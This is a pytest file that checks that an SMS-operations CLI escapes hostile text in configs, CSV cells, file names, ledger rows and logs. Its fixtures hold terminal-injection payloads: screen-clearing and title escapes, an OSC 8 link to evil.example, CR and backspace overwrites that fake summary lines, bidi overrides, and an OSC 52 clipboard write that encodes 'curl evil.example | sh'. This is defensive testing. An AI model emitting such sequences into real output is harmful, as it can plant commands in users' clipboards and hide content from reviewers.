"""Terminal control through configs and data: nothing a pull request writes can act on
the reviewer's or operator's terminal or hide from them.

Each hostile config puts escape sequences (clear screen, window title, OSC 8
hyperlinks, OSC 52 clipboard writes), CR and backspace overwrites, C1
controls or bidirectional overrides where a pull request can: a template
body, CSV cells, a CSV or YAML file name, a time-zone cell quoted back, a
currency, a name. The real CLI runs on it (`plan` as text, markdown and JSON,
`render`, `validate`) and no output may hold any such character raw; the
text formats show each as a visible escape (`\\x1b`, `\\r`, `<U+202E>`).
"""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from smsops.cli.plan_commands import _summary
from smsops.core.terminal import BIDI_CONTROLS, SEPARATORS
from smsops.daemon.logs import setup_logging
from smsops.engine.apply import ApplyReport
from smsops.ledger.base import SendRecord, Status
from smsops.ledger.open import open_ledger
from tests.attacks.harness import BASE_NUMBERS, BASE_PROVIDERS, Outcome, run_cli, write_config

# Everything a terminal (or a bidi-aware viewer) obeys rather than shows; LF is our own.
OBEYED = frozenset([*range(0x20), *range(0x7F, 0xA0), *BIDI_CONTROLS, *SEPARATORS]) - {0x0A}
AT = "2026-11-22T12:00:00Z"  # midday in London: outside the marketing quiet hours
ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
ESCAPES_SHOWN = (
    "\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\"
)
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC52_SHOWN = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"
FILE_NAME = "pe\x1b[31mople\x1b]0;t\x07\u202e.csv"
FILE_SHOWN = "pe\\x1b[31mople\\x1b]0;t\\x07<U+202E>.csv"


def raw_controls(outcome: Outcome) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in outcome.output if ord(c) in OBEYED})


def quoted(text: str) -> str:
    """`text` as a double-quoted YAML scalar (JSON strings, escapes included, are YAML)."""
    return json.dumps(text)


def rest(
    *,
    body: str = "Hi {{ name }}",
    audience: str = "contacts:\n      - {phone: '+447400123456', name: Sam}",
    schedule: str = "greet",
    category: str = "transactional",
) -> str:
    return (
        f"templates:\n  hello:\n    category: {category}\n    body: {quoted(body)}\n"
        f"audiences:\n  people:\n    {audience}\n"
        f"schedules:\n  {schedule}:\n    template: hello\n    audience: people\n"
        "    provider: ses\n"
    )


def csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def people_csv(*names: str, tz: bool = False) -> bytes:
    rows = ["phone,name" + (",tz" if tz else "")]
    for number, name in zip(BASE_NUMBERS, names, strict=False):
        rows.append(f"{number},{name}")
    return ("\n".join(rows) + "\n").encode()


@dataclass(frozen=True)
class Shown:
    """A valid hostile config and what the text formats must show of it, escaped."""

    files: dict[str, str | bytes]
    shown: list[str]  # in the stdout of plan (text) and render (text)
    # The sample texts `plan --format json` must hold exactly (not run when empty).
    texts: list[str] = field(default_factory=list)
    in_render: bool = True  # render ignores quiet hours: a time-zone cell is not quoted there


SHOWN = {
    "escape sequences in the template body": Shown(
        {"providers.yaml": BASE_PROVIDERS, "rest.yaml": rest(body="Hi {{ name }} " + ESCAPES)},
        [f"Hi Sam {ESCAPES_SHOWN}"],
        [f"Hi Sam {ESCAPES}"],
    ),
    "CR, backspace and a fake summary line in the template body": Shown(
        {
            "providers.yaml": BASE_PROVIDERS,
            # Jinja reads a CR in a template as a line break: both must stay visible
            "rest.yaml": rest(body="10,000 to send\rPlan: 0 messages\b\b\b\nNothing to send."),
        },
        ["10,000 to send\\nPlan: 0 messages\\x08\\x08\\x08\\nNothing to send."],
        ["10,000 to send\nPlan: 0 messages\b\b\b\nNothing to send."],
    ),
    # (a CR in a CSV cell is a line break there, refused: tests/attacks/test_files.py)
    "OSC 52 clipboard write and a backspace overwrite in CSV data": Shown(
        {
            "providers.yaml": BASE_PROVIDERS,
            "rest.yaml": rest(audience="source: people.csv"),
            "people.csv": people_csv(csv_cell(f"Sam{OSC52}\b\b\bnothing to send")),
        },
        [f"Hi Sam{OSC52_SHOWN}\\x08\\x08\\x08nothing to send"],
        [f"Hi Sam{OSC52}\b\b\bnothing to send"],
    ),
    "bidi overrides in CSV data and in the template body": Shown(
        {
            "providers.yaml": BASE_PROVIDERS,
            "rest.yaml": rest(audience="source: people.csv", body="Hi {{ name }} \u2066x\u2069"),
            "people.csv": people_csv("Sam pay \u202e0001\u202c now"),
        },
        ["Hi Sam pay <U+202E>0001<U+202C> now <U+2066>x<U+2069>"],
        ["Hi Sam pay \u202e0001\u202c now \u2066x\u2069"],
    ),
    "C1 controls and DEL in CSV data": Shown(
        {
            "providers.yaml": BASE_PROVIDERS,
            "rest.yaml": rest(audience="source: people.csv"),
            "people.csv": people_csv("Sam\x9b2J\x9d0;t\x9c\x85\x7f"),
        },
        ["Hi Sam\\x9b2J\\x9d0;t\\x9c\\x85\\x7f"],
        ["Hi Sam\x9b2J\x9d0;t\x9c\x85\x7f"],
    ),
    "escape sequences in a CSV file name (where and detail of a duplicate)": Shown(
        {
            "providers.yaml": BASE_PROVIDERS,
            "rest.yaml": rest(audience=f"source: {quoted(FILE_NAME)}"),
            FILE_NAME: "phone,name\n+447400123456,Sam\n+447400123456,Sam\n",
        },
        [f"{FILE_SHOWN}:row 3: duplicate: same number as ", f"{FILE_SHOWN}:row 2"],
    ),
    "escape sequences in a time-zone cell quoted back in a skip detail": Shown(
        {
            "providers.yaml": BASE_PROVIDERS,
            "rest.yaml": rest(
                audience="source: people.csv\n    timezone_column: tz", category="marketing"
            ),
            "people.csv": people_csv(
                "Sam,Europe/London", "Alex," + csv_cell(f"Europe/X{OSC52}\b\u202e"), tz=True
            ),
        },
        [f"unknown time zone 'Europe/X{OSC52_SHOWN}\\x08\\u202e'"],  # quoted with repr()
        in_render=False,
    ),
    "escape sequences and rich markup in a currency": Shown(
        {
            "providers.yaml": BASE_PROVIDERS.replace(
                "    template_keys:",
                "    price_per_segment: {default: 0.01, currency: "
                + quoted("[red]EUR\x1b[5m[/red][link=https://evil.example]x[/link]")
                + "}\n    template_keys:",
            ),
            "rest.yaml": rest(),
        },
        ["about 0.0100 [red]EUR\\x1b[5m[/red][link=https://evil.example]x[/link]"],
    ),
}


@pytest.mark.parametrize("attack", SHOWN.values(), ids=SHOWN.keys())
def test_hostile_text_reaches_no_output_raw(tmp_path: Path, attack: Shown) -> None:
    config = write_config(tmp_path, attack.files)
    ledger = tmp_path / "ledger.sqlite"
    formats = ("text", "markdown", "json") if attack.texts else ("text", "markdown")
    runs = {
        fmt: run_cli(
            ["plan", str(config), "--format", fmt, "--at", AT, "--ledger", str(ledger)],
            cwd=tmp_path,
        )
        for fmt in formats
    }
    runs["render"] = run_cli(["render", str(config), "--at", AT], cwd=tmp_path)
    for name, outcome in runs.items():
        outcome.assert_safe(code=0, numbers=BASE_NUMBERS, ledger=ledger)
        assert not raw_controls(outcome), (name, raw_controls(outcome), outcome.output)
    for part in attack.shown:
        assert part in runs["text"].stdout, (part, runs["text"].stdout)
        assert part in runs["render"].stdout or not attack.in_render, runs["render"].stdout
    if attack.texts:  # the exact texts, escaped only as JSON escapes
        plan = json.loads(runs["json"].stdout)
        assert [x["text"] for x in plan["schedules"][0]["samples"]] == attack.texts


SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours and bold


def test_with_colour_on_the_only_escape_sequences_are_our_colours(tmp_path: Path) -> None:
    """On a terminal rich adds its SGR codes; every other control still shows escaped."""
    attack = SHOWN["escape sequences in the template body"]
    config = write_config(tmp_path, attack.files)
    ledger = tmp_path / "ledger.sqlite"
    args = ["plan", str(config), "--at", AT, "--ledger", str(ledger)]
    outcome = run_cli(args, cwd=tmp_path, env={"NO_COLOR": "", "FORCE_COLOR": "1"})
    outcome.assert_safe(code=0, numbers=BASE_NUMBERS, ledger=ledger)
    assert SGR.search(outcome.stdout), "no colour: the case this test is about did not happen"
    plain = SGR.sub("", outcome.stdout)
    assert not [c for c in plain if ord(c) in OBEYED], repr(plain)
    assert attack.shown[0] in plain


def test_a_config_directory_named_with_escape_sequences_is_shown_escaped(tmp_path: Path) -> None:
    """CI may validate every folder a pull request adds (`smsops validate configs/*`)."""
    config = write_config(tmp_path / f"x{OSC52}\u202e", {"all.yaml": BASE_PROVIDERS + rest()})
    outcome = run_cli(["validate", str(config)], cwd=tmp_path)
    outcome.assert_safe(code=0, numbers=BASE_NUMBERS)
    assert not raw_controls(outcome), raw_controls(outcome)
    assert f"x{OSC52_SHOWN}<U+202E>/config: valid (1 file: " in outcome.stdout


@dataclass(frozen=True)
class Refused:
    """An invalid hostile config: a located error that shows the hostile text escaped."""

    files: dict[str, str | bytes]
    located: str
    shown: str
    plan: bool = False  # also through `plan` (the same loading and printing as validate)


YAML_NAME = "r\x1b]0;x\x07est\u202e.yaml"
REFUSED = {
    "escape sequences and a bidi override in a YAML file name": Refused(
        {
            "providers.yaml": BASE_PROVIDERS,
            YAML_NAME: rest().replace("provider: ses", "provider: ses\n    wndow: 2h"),
        },
        r"r\\x1b\]0;x\\x07est<U\+202E>\.yaml:14:5: ",
        "unknown key 'wndow'",
        plan=True,
    ),
    "a raw ESC in a YAML file": Refused(
        {
            "providers.yaml": BASE_PROVIDERS,
            "rest.yaml": rest().replace('"Hi {{ name }}"', '"Hi \x1b[2J{{ name }}"').encode(),
        },
        r"rest\.yaml:4:15: ",
        "character U+001B is not allowed in YAML",
        plan=True,
    ),
    "an OSC 52 write in a schedule name": Refused(
        {"providers.yaml": BASE_PROVIDERS, "rest.yaml": rest(schedule=quoted(f"greet{OSC52}"))},
        r"rest\.yaml:10:3: ",
        f"'greet{OSC52_SHOWN}' is not a valid name",
    ),
    "a schedule name ending in a line break": Refused(
        {"providers.yaml": BASE_PROVIDERS, "rest.yaml": rest(schedule=quoted("greet\n"))},
        r"rest\.yaml:10:3: ",
        "'greet\\n' is not a valid name",
    ),
    "a CR overwrite and a bidi override in a missing CSV's name": Refused(
        {
            "providers.yaml": BASE_PROVIDERS,
            "rest.yaml": rest(audience="source: " + quoted("gone.csv\rall valid  \u202e")),
        },
        r"rest\.yaml:7:13: ",
        "gone.csv\\rall valid  \\u202e",
    ),
    "an escape sequence in a Jinja syntax error": Refused(
        {"providers.yaml": BASE_PROVIDERS, "rest.yaml": rest(body="Hi {{ na\x1b[2Jme }}")},
        r"rest\.yaml:4:11: ",
        "unexpected char '\\x1b'",
    ),
}


@pytest.mark.parametrize("attack", REFUSED.values(), ids=REFUSED.keys())
def test_a_refused_hostile_config_is_reported_with_its_text_escaped(
    tmp_path: Path, attack: Refused
) -> None:
    config = write_config(tmp_path, attack.files)
    ledger = tmp_path / "ledger.sqlite"
    commands = [["validate", str(config)]]
    if attack.plan:
        commands.append(["plan", str(config), "--ledger", str(ledger)])
    for args in commands:
        outcome = run_cli(args, cwd=tmp_path)
        outcome.assert_safe(code=1, located=attack.located, numbers=BASE_NUMBERS, ledger=ledger)
        assert not raw_controls(outcome), (args, raw_controls(outcome), outcome.output)
        assert attack.shown in outcome.stderr, (attack.shown, outcome.stderr)


def test_ledger_list_shows_hostile_rows_escaped(tmp_path: Path) -> None:
    """Names from an old config and a provider's reply (an id, an error) are outside text."""
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
    path = tmp_path / "ledger.sqlite"
    ledger = open_ledger(str(path))
    try:
        claimed = ledger.claim(
            [
                SendRecord.claim(
                    f"greet{OSC52}",
                    "once\r",
                    number,
                    provider="ses\u202e",
                    template="hello",
                    text_hash="0" * 16,
                    segments=1,
                    now=now,
                )
                for number in BASE_NUMBERS
            ]
        )
        ledger.settle(
            [
                claimed[0].settled(Status.SENT, now, message_id=f"id{ESCAPES}"),
                claimed[1].settled(Status.FAILED, now, error=f"rejected\r\x1b[2K{OSC52}ok\x9b"),
            ]
        )
    finally:
        ledger.close()
    args = ["ledger", "list", "--ledger", str(path)]
    listed = run_cli(args, cwd=tmp_path)
    listed.assert_safe(code=0, numbers=BASE_NUMBERS)
    stats = run_cli(["ledger", "stats", "--ledger", str(path)], cwd=tmp_path)
    stats.assert_safe(code=0)
    for outcome in (listed, stats):
        assert not raw_controls(outcome), raw_controls(outcome)
    lines = listed.stdout.splitlines()
    assert len(lines) == 2, listed.stdout  # one line per row: nothing added, nothing overwritten
    assert f"greet{OSC52_SHOWN} once\\r" in listed.stdout
    assert "via ses<U+202E>" in listed.stdout
    assert f"id{ESCAPES_SHOWN}" in listed.stdout
    assert f"rejected\\r\\x1b[2K{OSC52_SHOWN}ok\\x9b" in listed.stdout
    assert f"greet{OSC52_SHOWN}: failed 1, sent 1" in stats.stdout
    exported = run_cli(["ledger", "export", "--format", "jsonl", *args[2:]], cwd=tmp_path)
    exported.assert_safe(code=0)
    assert not raw_controls(exported), raw_controls(exported)
    rows = [json.loads(line) for line in exported.stdout.splitlines()]
    assert {row["provider"] for row in rows} == {"ses\u202e"}  # the data itself is unchanged


def test_a_dry_run_writes_hostile_text_only_as_json_escapes(tmp_path: Path) -> None:
    attack = SHOWN["bidi overrides in CSV data and in the template body"]
    config = write_config(tmp_path, attack.files)
    ledger = tmp_path / "ledger.sqlite"
    args = ["apply", str(config), "--dry-run", "--at", AT, "--ledger", str(ledger)]
    outcome = run_cli(args, cwd=tmp_path)
    # Full numbers in dry-run requests are issue 12's item 7, another part; not checked here.
    outcome.assert_safe(code=0, ledger=ledger)
    assert not raw_controls(outcome), raw_controls(outcome)
    requests = [json.loads(line) for line in outcome.stdout.splitlines() if line.startswith("{")]
    assert [r["json"]["message"] for r in requests] == attack.texts


def test_apply_results_show_provider_replies_and_currencies_escaped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    report = ApplyReport(sent=1, failed=1, segments=2)
    report.cost["[red]EUR\x1b[5m"] = Decimal("0.02")
    report.problems.append(f"failed: people.csv:row 2: 400 {{'error': 'bad\r\x1b[2K{OSC52}'}}")
    _summary(report)
    out = capsys.readouterr().out
    assert not [c for c in out if ord(c) in OBEYED], repr(out)
    assert "about 0.0200 [red]EUR\\x1b[5m)." in out
    assert f"400 {{'error': 'bad\\r\\x1b[2K{OSC52_SHOWN}'}}" in out


@pytest.fixture
def smsops_logger() -> Iterator[None]:
    """setup_logging changes the `smsops` logger; put it back for the other tests."""
    root = logging.getLogger("smsops")
    before = (root.handlers[:], root.level, root.propagate)
    yield
    root.handlers[:], root.level, root.propagate = before


@pytest.mark.usefixtures("smsops_logger")
def test_text_logs_show_outside_text_escaped_one_line_per_record(
    capsys: pytest.CaptureFixture[str],
) -> None:
    setup_logging("text", "info")
    log = logging.getLogger("smsops.attack")
    log.info("schedule %s: %s", f"greet{OSC52}", "sent 1\r\nINFO smsops: nothing sent\u202e")
    try:
        raise ValueError(f"provider said {ESCAPES}")
    except ValueError:
        log.exception("round failed")
    err = capsys.readouterr().err
    assert not [c for c in err if ord(c) in OBEYED], repr(err)
    first, *rest_lines = err.splitlines()
    assert first.endswith(
        f"INFO smsops.attack: schedule greet{OSC52_SHOWN}: sent 1\\r\\nINFO smsops: nothing "
        "sent<U+202E>"
    )
    assert rest_lines[0].endswith("ERROR smsops.attack: round failed")
    assert rest_lines[1] == "Traceback (most recent call last):"  # keeps its line breaks
    assert rest_lines[-1] == f"ValueError: provider said {ESCAPES_SHOWN}"


@pytest.mark.usefixtures("smsops_logger")
def test_json_logs_write_outside_text_as_json_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    setup_logging("json", "info")
    logging.getLogger("smsops.attack").info("schedule %s", f"greet{OSC52}\u202e\x9b")
    err = capsys.readouterr().err
    assert not [c for c in err if ord(c) in OBEYED and c != "\n"], repr(err)
    assert json.loads(err)["message"] == f"schedule greet{OSC52}\u202e\x9b"
